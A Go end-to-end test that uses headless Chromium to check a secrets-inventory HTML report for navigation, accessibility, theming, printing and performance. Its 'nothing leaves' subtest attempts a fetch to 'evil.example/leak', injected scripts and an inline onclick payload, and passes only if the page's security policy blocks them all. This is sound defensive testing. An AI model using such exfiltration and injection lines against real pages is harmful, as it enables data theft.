package e2e

import (
	"context"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/performance"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// https://www.npmjs.com/package/axe-core
const axeVersion = "4.14.1"

// axe is the source of axe-core, which finds what keeps people from using a page.
func axe(t testing.TB) string {
	t.Helper()
	dir := made(t, cache(t, "axe-core-"+axeVersion), func(into string) error {
		if err := os.MkdirAll(into, 0o755); err != nil {
			return err
		}
		if err := command(into, nil, "npm", "pack", "--silent", "axe-core@"+axeVersion); err != nil {
			return err
		}
		return command(into, nil, "tar", "xzf", "axe-core-"+axeVersion+".tgz", "package/axe.min.js")
	})
	b, err := os.ReadFile(filepath.Join(dir, "package", "axe.min.js"))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// site is a browser, and a server of the one page that it looks at.
type site struct {
	t   testing.TB
	ctx context.Context
	url string

	mu       sync.Mutex
	html     []byte
	asked    []string // of the server
	sent     []string // by the browser
	troubles []string // what the console of the browser says
}

func startSite(t *testing.T) *site {
	t.Helper()
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Fatal("chromium is not installed")
	}
	s := &site{t: t}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.asked = append(s.asked, r.URL.String())
		if r.URL.Path != "/report.html" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write(s.html)
	}))
	t.Cleanup(server.Close)
	s.url = server.URL + "/report.html"
	options := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]),
		chromedp.ExecPath("chromium"), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 860),
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true),
	)
	allocator, cancel := chromedp.NewExecAllocator(t.Context(), options...)
	t.Cleanup(cancel)
	ctx, cancel := chromedp.NewContext(allocator)
	t.Cleanup(cancel)
	s.ctx = ctx
	if _, err := chromedp.Run(ctx, chromedp.Steps()); err != nil { // it lasts as long as this context
		t.Fatal(err)
	}
	s.do(func(_ context.Context, t *chromedp.Target) (none chromedp.Void, err error) {
		listen(s, t, network.RequestWillBeSent, func(e network.EventRequestWillBeSent) {
			if !strings.HasPrefix(e.Request.URL, "data:") { // which is in the page
				s.sent = append(s.sent, e.Request.URL)
			}
		})
		listen(s, t, runtime.ExceptionThrown, func(e runtime.EventExceptionThrown) {
			s.troubles = append(s.troubles, fmt.Sprint(e.ExceptionDetails.Text, " ", e.ExceptionDetails.LineNumber))
		})
		listen(s, t, runtime.ConsoleAPICalled, func(e runtime.EventConsoleAPICalled) {
			if e.Type == "error" || e.Type == "warning" {
				s.troubles = append(s.troubles, fmt.Sprint(e.Type))
			}
		})
		listen(s, t, log.EntryAdded, func(e log.EventEntryAdded) {
			if e.Entry.Level == "error" || e.Entry.Level == "warning" {
				s.troubles = append(s.troubles, e.Entry.Text)
			}
		})
		return none, nil
	}, call(network.Enable, network.EnableParams{}), call(log.Enable, cdp.Empty{}), call(runtime.Enable, cdp.Empty{}))
	return s
}

// listen tells of the events of the browser until it ends.
func listen[E any](s *site, t *chromedp.Target, event cdp.Event[E], tell func(E)) {
	events := cdp.Events(s.ctx, t, event)
	go func() {
		for e, err := range events {
			if err != nil {
				return
			}
			s.mu.Lock()
			tell(e)
			s.mu.Unlock()
		}
	}()
}

// call is a command to the browser, of which nothing comes.
func call[P, R any](command cdp.Command[P, R], params P) chromedp.Action[chromedp.Void] {
	return func(ctx context.Context, t *chromedp.Target) (none chromedp.Void, err error) {
		_, err = cdp.Call(ctx, t, command, params)
		return none, err
	}
}

// ask does something in the browser of which something comes.
func ask[T any](s *site, action chromedp.Action[T]) T {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(s.ctx, time.Minute)
	defer cancel()
	result, err := chromedp.Run(ctx, action)
	if err != nil {
		shown, _ := chromedp.Run(s.ctx, chromedp.Text(chromedp.CSS("main")))
		s.t.Fatalf("%v\n%.4000s", err, shown)
	}
	return result
}

// do does things in the browser, in order.
func (s *site) do(actions ...chromedp.Action[chromedp.Void]) {
	s.t.Helper()
	ask(s, chromedp.Steps(actions...))
}

// eval returns what a script comes to in the page.
func eval[T any](s *site, script string) T {
	s.t.Helper()
	return ask(s, chromedp.Evaluate[T](script, chromedp.EvalAwaitPromise))
}

// open opens a page at a view.
func (s *site) open(html []byte, view string) {
	s.t.Helper()
	s.mu.Lock()
	s.html = html
	s.mu.Unlock()
	s.do(chromedp.Navigate("about:blank"), chromedp.Navigate(s.url+"#"+view), chromedp.WaitReady(chromedp.CSS("html[data-ready]")))
}

// look goes to a view of the page that is open.
func (s *site) look(view string) {
	s.t.Helper()
	eval[chromedp.Void](s, fmt.Sprintf("location.hash = %q", "#"+view))
	name, _, _ := strings.Cut(view, "/")
	s.await(fmt.Sprintf(`!document.getElementById("view-%s").hidden && location.hash === %q`, name, "#"+view))
	eval[chromedp.Void](s, "new Promise(shown => requestAnimationFrame(() => requestAnimationFrame(shown)))")
}

// click clicks on the first that fits a selector.
func (s *site) click(selector string) {
	s.t.Helper()
	s.do(chromedp.Click(chromedp.CSS(selector)))
}

// theme shows the page in light or in dark.
func (s *site) theme(name string) {
	s.t.Helper()
	eval[chromedp.Void](s, fmt.Sprintf(`if (document.documentElement.dataset.theme !== %q) document.getElementById("theme").click()`, name))
}

// search writes into one of the two fields of the search.
func (s *site) search(id, text string) {
	s.t.Helper()
	eval[chromedp.Void](s, fmt.Sprintf("document.getElementById(%q).value = ''", id))
	s.do(chromedp.SendKeys(chromedp.CSS("#"+id), text+" "))
}

// keys presses keys, one after the other.
func (s *site) keys(keys ...string) {
	s.t.Helper()
	for _, key := range keys {
		s.do(chromedp.KeyEvent(key))
	}
}

// text is what is shown of the first that fits a selector.
func (s *site) text(selector string) (text string) {
	s.t.Helper()
	return ask(s, chromedp.Text(chromedp.CSS(selector)))
}

// await waits until a script says yes. The page's policy forbids what chromedp.Poll does.
func (s *site) await(script string) {
	s.t.Helper()
	for range 400 {
		if eval[bool](s, "!!("+script+")") {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	s.t.Fatalf("it does not come to pass: %s\n%.4000s", script, s.text("main"))
}

// lacks fails if the view does not show all of it.
func (s *site) lacks(selector string, all ...string) {
	s.t.Helper()
	text := s.text(selector)
	for _, want := range all {
		if !strings.Contains(text, want) {
			s.t.Errorf("%s does not show %q:\n%s", selector, want, text)
		}
	}
}

// quiet fails if the page has asked for anything, or the console has an error.
func (s *site) quiet() {
	s.t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, url := range append(slices.Clone(s.sent), s.asked...) {
		if before, _, _ := strings.Cut(url, "#"); before != s.url && before != "/report.html" && before != "about:blank" {
			s.t.Errorf("somebody is asked for %s", url)
		}
	}
	for _, trouble := range s.troubles {
		s.t.Errorf("the console says: %s", trouble)
	}
	s.sent, s.asked, s.troubles = nil, nil, nil
}

// violations are what axe-core finds in the page as it is shown.
func (s *site) violations(source string) {
	s.t.Helper()
	if !eval[bool](s, "!!window.axe") {
		eval[chromedp.Void](s, source)
	}
	found := eval[string](s, `axe.run(document, {preload: false, resultTypes: ["violations"]}).then(r => r.violations.flatMap(v => v.nodes.slice(0, 3).map(n => v.id + " " + n.target.join(" ") + ": " + n.failureSummary.replace(/\s+/g, " "))).join("\n"))`)
	if found != "" {
		s.t.Errorf("axe-core finds at %s:\n%s", eval[string](s, "location.hash + ' ' + document.documentElement.dataset.theme"), found)
	}
}

// demo is the example with owners, dates and trouble, and values of all ages.
func demo(t *testing.T, trouble bool) []byte {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "victor")
	if err := os.CopyFS(dir, os.DirFS("../examples/victor")); err != nil {
		t.Fatal(err)
	}
	in := func(days int) string { return time.Now().AddDate(0, 0, days).UTC().Format(time.DateOnly) }
	write := func(name, text string) {
		t.Helper()
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("owners.cue", `package victor

inputs: {
	DB_PASSWORD: owner:       "platform"
	JWT_SECRET: {owner: "platform", maxAge: "4320h", rotateAfter: "3600h"}
	GRAFANA_ADMIN_PASSWORD: {owner: "observability", maxAge: "2160h"}
	ANTHROPIC_API_KEY: owner: "models"
	OPENAI_API_KEY: {owner: "models", expires: "`+in(12)+`"}
	SENTRY_DSN: owner:        "observability"
	SLACK_WEBHOOK_URL: {owner: "observability", expires: "`+in(-3)+`"}
	SMTP_PASSWORD: {owner: "platform", expires: "`+in(140)+`"}
}
`)
	if trouble {
		write("envs/broken/env.cue", "package victor\n\nenvironment: 7\n")
		write("k8s/job.yaml", "{apiVersion: v1, kind: Pod, metadata: {name: job}, spec: {containers: [{name: job, env: [{name: A, valueFrom: {secretKeyRef: {name: victor-ai-secrets, key: missing}}}]}]}}\n")
		write("k8s/kustomization.yaml", "resources: [api.yaml, worker.yaml, grafana.yaml, alertmanager.yaml, job.yaml]\n")
	}
	n := 0
	changed := regexp.MustCompile(`changed: \S+`)
	err := filepath.WalkDir(filepath.Join(dir, "deploy"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.Name() != "victorgen.lock" {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		b = changed.ReplaceAllFunc(b, func([]byte) []byte {
			n++
			return []byte("changed: " + time.Now().AddDate(0, 0, -5-n*37%140).UTC().Format(time.RFC3339))
		})
		return os.WriteFile(path, b, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "report.html")
	_, stderr, code := victorgen(t, dir, nil, "report", "./envs/...", "--html", out)
	if want := map[bool]int{false: 0, true: 1}[trouble]; code != want {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestReport looks at the page of victorgen report as people do: it searches, filters and
// follows, by mouse and by keys, in both themes, without scripts and on paper. Nothing is
// asked for, and no one is kept out. With VICTORGEN_UPDATE it takes the pictures of the docs.
func TestReport(t *testing.T) {
	t.Parallel()
	source := axe(t)
	plain, troubled := demo(t, false), demo(t, true)
	s := startSite(t)
	screen := chromedp.EmulateViewport(1280, 860)
	s.do(screen)

	s.open(plain, "")
	s.lacks("#view-overview", "production-azure", "aws-ssm", "overdue", "SLACK_WEBHOOK_URL", "VG1413")
	if title := s.text("h1"); title != "Secrets of victor" {
		t.Errorf("the title is %q", title)
	}

	// Search and filter.
	s.look("matrix")
	s.lacks("#view-matrix", "ANTHROPIC_API_KEY", "required \u00b7 aws-ssm", "present", "absent", "in the contract")
	const rows, columns = `document.querySelectorAll("#view-matrix tbody tr").length`, `document.querySelectorAll("#view-matrix thead th").length`
	s.search("q", "redis")
	s.await(rows + " === 3")
	s.lacks("#status", "3 of 35 inputs, 6 environments")
	s.search("q", "observability") // by owner
	s.await(rows + " === 3 && document.body.textContent.includes('GRAFANA_ADMIN_PASSWORD')")
	s.search("q", "")
	s.search("env", "dev, staging")
	s.await(columns + " === 3 && " + rows + " === 35")
	s.search("env", "")
	s.await(columns + " === 7")
	choose := func(id, value string) {
		t.Helper()
		eval[chromedp.Void](s, fmt.Sprintf(`{const e = document.getElementById(%q); e.focus(); e.value = %q; e.dispatchEvent(new Event("change"))}`, id, value))
		if focus := eval[string](s, "document.activeElement.id"); focus != id {
			t.Errorf("after %s has changed, the focus is at %q", id, focus)
		}
	}
	choose("matrix-class", "generated")
	s.lacks("#status", "5 of 35 inputs")
	choose("matrix-state", "due")
	s.lacks("#view-matrix", "GRAFANA_ADMIN_PASSWORD")
	choose("matrix-class", "")
	choose("matrix-state", "")
	choose("matrix-sort", "age")
	s.click("#matrix-differs")
	s.await(rows + " < 35")
	s.click("#matrix-differs")
	choose("matrix-sort", "name")

	// From a cell of the matrix to the map, by keys alone.
	s.do(chromedp.Focus(chromedp.CSS("#view-matrix td a[tabindex='0']")))
	s.keys(kb.ArrowRight, kb.ArrowDown, kb.ArrowDown, kb.ArrowUp)
	if cell := eval[string](s, "document.activeElement.textContent"); !strings.HasPrefix(cell, "AZURE_OPENAI_API_KEY in production: ") || !strings.Contains(cell, "absentoptional") {
		t.Errorf("the keys lead to %q", cell)
	}
	s.keys(kb.Enter)
	s.await(`document.querySelector("#about h3")`)
	s.lacks("#about", "AZURE_OPENAI_API_KEY", "Azure OpenAI API key", "victor-ai-secrets azure-openai-api-key", "Deployment worker")

	// Follow a value to who uses it, and back from there.
	const nodes = `document.querySelectorAll("#graph .node").length`
	s.look("map/production/input/DB_PASSWORD")
	s.await(nodes + ` === 5 && document.querySelectorAll("#graph path").length === 4`)
	s.lacks("#about", "password of 32 characters", "due after 90 days", "platform", "variable DATABASE_URL", "k8s/api.yaml:19")
	s.lacks("#graph", ".secrets.production", "database-url", "Deployment api", "volume secrets")
	s.click("#graph .workload li:first-child a")
	s.await(`document.querySelector("#about h3").textContent === "Deployment api"`)
	s.lacks("#graph", "JWT_SECRET", "SENTRY_DSN", "monitoring-credentials")
	if strings.Contains(s.text("#graph"), "GRAFANA") {
		t.Error("the map shows what the workload does not use")
	}
	s.keys(kb.ArrowLeft, kb.Enter)
	s.await(`document.querySelector("#about .kind").textContent === "secret"`)
	s.click("#view-map .controls a")
	s.await(nodes + ` === 44 && !document.querySelector("#about")`)
	s.search("q", "grafana")
	s.await(nodes + " === 4") // with what they are linked with
	s.click("#view-map summary")
	s.await(`document.querySelector("#view-map details table")`)
	s.lacks("#view-map details", "GRAFANA_ADMIN_PASSWORD", "admin-password", "Deployment grafana")
	s.search("q", "")
	s.await(nodes + " === 44")

	// When something is due; what is wrong; what differs.
	s.look("calendar")
	s.lacks("#view-calendar", "expires", "rotation due", "certificate ends", "demo-sealing-cert.pem", "observability")
	s.click("#month-overdue")
	s.await(`document.activeElement.id === "month-overdue" && [...document.querySelectorAll("#view-calendar tbody .badge")].every(b => b.textContent.endsWith("ago"))`)
	s.click("#month-overdue")
	s.look("compare/dev/production")
	s.lacks("#view-compare", "DB_HOST", "value 1 of 2", "victor-ai-dev", "optional", "required", "model-provider")
	s.click("#swap")
	s.await(`document.querySelector("#view-compare thead th:nth-child(3)").textContent === "production" && document.activeElement.id === "swap"`)
	s.look("findings/VG1413")
	s.lacks("#view-findings", "cluster-wide", "contract.cue:", `write scope: "strict"`)
	s.click("#view-findings details summary")

	// The skip link, and where the focus goes with a view.
	s.do(chromedp.Focus(chromedp.CSS("#skip")))
	s.keys(kb.Enter)
	s.await(`document.activeElement.id === "main"`)
	s.click(`#views a[data-view="overview"]`)
	s.await(`document.activeElement.id === "title-overview" && document.title.startsWith("Overview: Secrets of victor")`)
	s.quiet()

	part := func(name string, f func(*testing.T)) {
		t.Run(name, func(t *testing.T) {
			s.t = t
			f(t)
			s.quiet()
		})
		s.t = t
	}
	part("axe", func(t *testing.T) {
		s.open(plain, "")
		for _, name := range []string{"light", "dark"} {
			s.theme(name)
			for _, view := range []string{"overview", "matrix", "map/production", "map/production/input/DB_PASSWORD", "calendar", "findings", "compare/dev/production"} {
				s.look(view)
				s.violations(source)
			}
		}
		s.open(troubled, "findings") // which is dark now
		s.lacks("#view-findings", "missing", "Pod job", "envs/broken/env.cue:3", "error")
		s.violations(source)
		s.look("overview")
		s.lacks("#view-overview", "broken", "Nothing is known about it until its errors are fixed.")
		s.violations(source)
		s.theme("light")
		s.violations(source)
		s.do(chromedp.EmulateViewport(390, 800)) // a telephone
		for _, view := range []string{"overview", "map/production/input/DB_PASSWORD"} {
			s.look(view)
			s.violations(source)
			if eval[bool](s, "document.documentElement.scrollWidth > innerWidth") {
				t.Errorf("%s is wider than a telephone", view)
			}
		}
		s.do(screen)
	})
	part("themes", func(t *testing.T) {
		eval[chromedp.Void](s, "localStorage.clear()")
		now := func() string { return eval[string](s, "document.documentElement.dataset.theme") }
		colours := map[string]bool{}
		for _, scheme := range []string{"light", "dark"} {
			s.do(call(emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}}))
			s.open(plain, "overview")
			colour := eval[string](s, "getComputedStyle(document.body).backgroundColor")
			if now() != scheme || colours[colour] {
				t.Errorf("%s gives the theme %s and the colour %s", scheme, now(), colour)
			}
			colours[colour] = true
		}
		s.click("#theme")
		if now() != "light" {
			t.Error("the switch does nothing")
		}
		s.open(plain, "overview")
		if now() != "light" {
			t.Error("what was chosen does not stay")
		}
		eval[chromedp.Void](s, "localStorage.clear()")
		s.do(call(emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{}))
	})
	part("print", func(t *testing.T) {
		s.open(plain, "overview")
		pdf := ask(s, chromedp.PrintToPDF(chromedp.PDFPreferCSSPageSize()))
		if n := len(regexp.MustCompile(`/Type\s*/Page\b`).FindAll(pdf, -1)); n < 6 {
			t.Errorf("%d pages, %d bytes", n, len(pdf))
		}
		eval[chromedp.Void](s, `dispatchEvent(new Event("beforeprint"))`)
		s.do(call(emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"}))
		for _, want := range []string{"#view-overview table", "#view-matrix table", "#view-map details table", "#view-calendar table", "#view-findings table", "#view-compare table"} {
			s.do(chromedp.WaitVisible(chromedp.CSS(want)))
		}
		if eval[bool](s, `getComputedStyle(document.getElementById("filter")).display !== "none" || !document.getElementById("view-matrix").textContent.includes("XAI_API_KEY")`) {
			t.Error("the search is printed, or not all of the matrix")
		}
		s.do(call(emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{}))
		eval[chromedp.Void](s, `dispatchEvent(new Event("afterprint"))`)
		s.await(`document.querySelectorAll(".view:not([hidden])").length === 1`)
	})
	part("without scripts", func(t *testing.T) {
		s.do(call(emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true}), chromedp.Navigate("about:blank"), chromedp.Navigate(s.url))
		s.lacks("main", "production-external", "DB_PASSWORD", "rotation due", "VG1413", "Password of the database user")
		s.do(call(emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{}))
	})
	part("fleet", func(t *testing.T) {
		file := filepath.Join(t.TempDir(), "fleet.html")
		if err := command("..", []string{"VICTORGEN_FLEET=" + file}, "go", "test", "-count=1", "-run", "TestPageSize", "./report"); err != nil {
			t.Fatal(err)
		}
		html, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		// In the time of the processor: what else a machine is busy with is no fault of the page.
		busy := func() float64 {
			t.Helper()
			metrics := ask(s, func(ctx context.Context, t *chromedp.Target) (performance.GetMetricsResult, error) {
				return cdp.Call(ctx, t, performance.GetMetrics, cdp.Empty{})
			})
			i := slices.IndexFunc(metrics.Metrics, func(m *performance.Metric) bool { return m.Name == "TaskDuration" })
			if i < 0 {
				t.Fatal("the browser does not tell what it takes")
			}
			return metrics.Metrics[i].Value
		}
		s.do(call(performance.Enable, performance.EnableParams{TimeDomain: performance.EnableTimeDomainThreadTicks}))
		before := busy()
		s.open(html, "overview")
		took := busy() - before
		paint := eval[float64](s, `performance.getEntriesByName("first-contentful-paint")[0].startTime`)
		t.Logf("%d bytes; first paint after %.0f ms on the clock; %.0f ms of the processor until the page can be used", len(html), paint, 1000*took)
		if took > 1 {
			t.Errorf("the page takes %.2f s of the processor", took)
		}
		for _, view := range []string{"matrix", "calendar", "findings", "compare/customer-003/customer-150", "map/customer-117/input/SERVICE_042_PASSWORD"} {
			before := busy()
			s.look(view)
			took, elements := busy()-before, eval[int](s, "document.querySelectorAll('*').length")
			t.Logf("%s: %.0f ms of the processor, %d elements", view, 1000*took, elements)
			if took > 2 || elements > 60_000 {
				t.Errorf("%s takes %.2f s and has %d elements", view, took, elements)
			}
		}
		s.lacks("#about", "What service number 42 is let in by", "Deployment service-04", "k8s/service-04.yaml:22")
		s.look("matrix")
		s.search("q", "service_19")
		s.search("env", "customer-19")
		s.await(rows + " === 10 && " + columns + " === 11")
		s.violations(source) // with columns of one letter
	})

	if os.Getenv("VICTORGEN_UPDATE") != "" {
		s.pictures(plain)
	}
	t.Run("nothing leaves", func(t *testing.T) {
		s.t = t
		s.open(plain, "overview")
		s.quiet()
		went := eval[string](s, `Promise.allSettled([
			fetch("/leak"), fetch("https://evil.example/leak"),
			new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "/leak.png"; }),
			new Promise((yes, no) => { const e = document.createElement("script"); e.onload = yes; e.onerror = no; e.src = "/leak.js"; document.head.append(e); }),
			new Promise((yes, no) => { const e = document.createElement("script"); e.textContent = "window.ran = true"; document.head.append(e); window.ran ? yes() : no(); }),
			new Promise((yes, no) => { const e = document.createElement("div"); e.innerHTML = "<b onclick='window.ran = true'>x</b>"; document.body.append(e); e.firstChild.click(); window.ran ? yes() : no(); }),
		]).then(all => all.map(r => r.status).join())`)
		if strings.Contains(went, "fulfilled") {
			t.Errorf("the policy lets something pass: %s", went)
		}
		for range 200 { // the console tells of each, a little later
			s.mu.Lock()
			told := len(s.troubles)
			s.mu.Unlock()
			if told >= 5 {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		s.mu.Lock()
		defer s.mu.Unlock()
		if len(s.troubles) < 5 {
			t.Errorf("the console does not tell of what was tried: %v", s.troubles)
		}
		for _, url := range s.asked {
			t.Errorf("the server was asked for %s", url)
		}
	})
	s.t = t

	pictures, err := filepath.Glob("../docs/images/report-*.png")
	if err != nil || len(pictures) < 3 {
		t.Fatalf("the docs have %d pictures, %v", len(pictures), err)
	}
	for _, file := range pictures {
		if info, err := os.Stat(file); err != nil || info.Size() > 200_000 {
			t.Errorf("%s: more than 200 kB, or %v", file, err)
		}
	}
}

// pictures takes those of the docs.
func (s *site) pictures(html []byte) {
	s.t.Helper()
	for _, p := range []struct{ file, view, theme string }{
		{"overview", "overview", "light"}, {"map", "map/production/input/DB_PASSWORD", "light"}, {"matrix-dark", "matrix", "dark"}, {"calendar", "calendar", "light"},
	} {
		s.open(html, p.view)
		s.theme(p.theme)
		eval[chromedp.Void](s, "document.activeElement.blur(); new Promise(done => setTimeout(done, 300))")
		png := ask(s, chromedp.CaptureScreenshot())
		if err := os.WriteFile("../docs/images/report-"+p.file+".png", png, 0o644); err != nil {
			s.t.Fatal(err)
		}
	}
}
